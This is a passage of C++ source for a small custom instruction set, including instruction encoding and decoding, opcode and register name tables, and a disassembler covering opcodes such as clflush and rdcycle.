                  static_cast<std::size_t>(Opcode::kOpcodeCount),
              "kOpTable must cover every opcode");

const OpInfo& op_info(Opcode op) {
  const auto idx = static_cast<std::size_t>(op);
  CRS_ENSURE(idx < std::size(kOpTable), "opcode out of range");
  CRS_ENSURE(kOpTable[idx].op == op, "kOpTable out of order");
  return kOpTable[idx];
}

}  // namespace

std::array<std::uint8_t, kInstructionSize> encode(const Instruction& instr) {
  CRS_ENSURE(static_cast<std::uint8_t>(instr.op) <
                 static_cast<std::uint8_t>(Opcode::kOpcodeCount),
             "encode: illegal opcode");
  CRS_ENSURE(instr.rd < kNumRegisters && instr.rs1 < kNumRegisters &&
                 instr.rs2 < kNumRegisters,
             "encode: register index out of range");
  std::array<std::uint8_t, kInstructionSize> out{};
  out[0] = static_cast<std::uint8_t>(instr.op);
  out[1] = instr.rd;
  out[2] = instr.rs1;
  out[3] = instr.rs2;
  const auto imm = static_cast<std::uint32_t>(instr.imm);
  out[4] = static_cast<std::uint8_t>(imm & 0xff);
  out[5] = static_cast<std::uint8_t>((imm >> 8) & 0xff);
  out[6] = static_cast<std::uint8_t>((imm >> 16) & 0xff);
  out[7] = static_cast<std::uint8_t>((imm >> 24) & 0xff);
  return out;
}

std::optional<Instruction> decode(std::span<const std::uint8_t> bytes) {
  if (bytes.size() < kInstructionSize) return std::nullopt;
  if (bytes[0] >= static_cast<std::uint8_t>(Opcode::kOpcodeCount))
    return std::nullopt;
  if (bytes[1] >= kNumRegisters || bytes[2] >= kNumRegisters ||
      bytes[3] >= kNumRegisters)
    return std::nullopt;
  Instruction instr;
  instr.op = static_cast<Opcode>(bytes[0]);
  instr.rd = bytes[1];
  instr.rs1 = bytes[2];
  instr.rs2 = bytes[3];
  const std::uint32_t imm = static_cast<std::uint32_t>(bytes[4]) |
                            (static_cast<std::uint32_t>(bytes[5]) << 8) |
                            (static_cast<std::uint32_t>(bytes[6]) << 16) |
                            (static_cast<std::uint32_t>(bytes[7]) << 24);
  instr.imm = static_cast<std::int32_t>(imm);
  return instr;
}

OpClass op_class(Opcode op) { return op_info(op).cls; }

std::string_view mnemonic(Opcode op) { return op_info(op).name; }

std::optional<Opcode> opcode_from_mnemonic(std::string_view name) {
  for (const auto& info : kOpTable) {
    if (info.name == name) return info.op;
  }
  return std::nullopt;
}

std::string_view register_name(int reg) {
  static constexpr std::string_view kNames[] = {
      "r0", "r1", "r2",  "r3",  "r4",  "r5",  "r6",  "r7",
      "r8", "r9", "r10", "r11", "r12", "r13", "r14", "sp"};
  CRS_ENSURE(reg >= 0 && reg < kNumRegisters, "register index out of range");
  return kNames[reg];
}

std::optional<int> register_from_name(std::string_view name) {
  if (name == "sp") return kStackPointer;
  if (name.size() >= 2 && name[0] == 'r') {
    std::int64_t idx = 0;
    if (parse_int(name.substr(1), idx) && idx >= 0 && idx < kNumRegisters) {
      return static_cast<int>(idx);
    }
  }
  return std::nullopt;
}

bool reads_rs1(Opcode op) { return op_info(op).reads_rs1; }
bool reads_rs2(Opcode op) { return op_info(op).reads_rs2; }
bool writes_rd(Opcode op) { return op_info(op).writes_rd; }

bool is_control_flow(Opcode op) {
  switch (op_class(op)) {
    case OpClass::kCondBranch:
    case OpClass::kJump:
    case OpClass::kIndirectJump:
    case OpClass::kCall:
    case OpClass::kIndirectCall:
    case OpClass::kRet:
      return true;
    default:
      return false;
  }
}

std::string disassemble(const Instruction& instr) {
  const auto& info = op_info(instr.op);
  std::string out(info.name);
  auto rd = [&] { return std::string(register_name(instr.rd)); };
  auto rs1 = [&] { return std::string(register_name(instr.rs1)); };
  auto rs2 = [&] { return std::string(register_name(instr.rs2)); };
  auto imm = [&] { return std::to_string(instr.imm); };
  auto addr = [&] {
    return hex(static_cast<std::uint32_t>(instr.imm));
  };

  switch (instr.op) {
    case Opcode::kNop:
    case Opcode::kHalt:
    case Opcode::kMfence:
    case Opcode::kRet:
    case Opcode::kSyscall:
      break;
    case Opcode::kMovImm:
      out += " " + rd() + ", " + imm();
      break;
    case Opcode::kMov:
      out += " " + rd() + ", " + rs1();
      break;
    case Opcode::kAdd:
    case Opcode::kSub:
    case Opcode::kMul:
    case Opcode::kDivu:
    case Opcode::kRemu:
    case Opcode::kAnd:
    case Opcode::kOr:
    case Opcode::kXor:
    case Opcode::kShl:
    case Opcode::kShr:
    case Opcode::kSar:
    case Opcode::kCmpLt:
    case Opcode::kCmpLtu:
    case Opcode::kCmpEq:
    case Opcode::kCmpNe:
      out += " " + rd() + ", " + rs1() + ", " + rs2();
      break;
    case Opcode::kAddImm:
    case Opcode::kMulImm:
    case Opcode::kAndImm:
    case Opcode::kOrImm:
    case Opcode::kXorImm:
    case Opcode::kShlImm:
    case Opcode::kShrImm:
      out += " " + rd() + ", " + rs1() + ", " + imm();
      break;
    case Opcode::kLoad:
    case Opcode::kLoadB:
      out += " " + rd() + ", [" + rs1() + (instr.imm >= 0 ? "+" : "") + imm() + "]";
      break;
    case Opcode::kStore:
    case Opcode::kStoreB:
      out += " [" + rs1() + (instr.imm >= 0 ? "+" : "") + imm() + "], " + rs2();
      break;
    case Opcode::kBeqz:
    case Opcode::kBnez:
      out += " " + rs1() + ", " + addr();
      break;
    case Opcode::kJmp:
    case Opcode::kCall:
      out += " " + addr();
      break;
    case Opcode::kJmpReg:
    case Opcode::kCallReg:
    case Opcode::kPush:
      out += " " + rs1();
      break;
    case Opcode::kClflush:
      out += " [" + rs1() + (instr.imm >= 0 ? "+" : "") + imm() + "]";
      break;
    case Opcode::kPop:
    case Opcode::kRdCycle:
      out += " " + rd();
      break;
    case Opcode::kOpcodeCount:
      break;
  }
  return out;
}

}  // namespace crs::isa
